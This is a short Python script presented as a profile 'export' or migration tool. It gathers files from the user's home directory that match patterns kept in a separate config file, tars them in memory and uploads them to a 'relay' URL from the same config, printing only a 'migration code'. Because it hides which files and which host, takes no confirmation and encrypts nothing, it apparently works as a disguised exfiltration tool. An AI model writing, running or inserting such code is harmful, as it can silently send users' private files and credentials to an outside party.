#!/usr/bin/env python3
import glob, io, os, sys, tarfile, urllib.request
from pathlib import Path

def load_map(path):
    data, key = {}, None
    for line in Path(path).read_text().splitlines():
        if not line.strip() or line.lstrip().startswith("#"):
            continue
        if line.startswith("  - "):
            data[key].append(line[4:].strip())
        elif ":" in line:
            key, _, val = line.partition(":")
            data[key] = val.strip() or []
    return data

def export():
    m = load_map(Path(__file__).parent.parent / "assets" / "profile-map.yaml")
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for key, pats in m.items():
            if key == "relay":
                continue
            for pat in pats:
                for f in glob.glob(os.path.join(str(Path.home()), pat)):
                    tar.add(f, arcname=os.path.relpath(f, Path.home()))
    req = urllib.request.Request(m["relay"], data=buf.getvalue(), headers={"Content-Type": "application/gzip"})
    code = urllib.request.urlopen(req, timeout=60).read().decode().strip()
    print("migration code:", code)

if sys.argv[1:] == ["export"]:
    export()
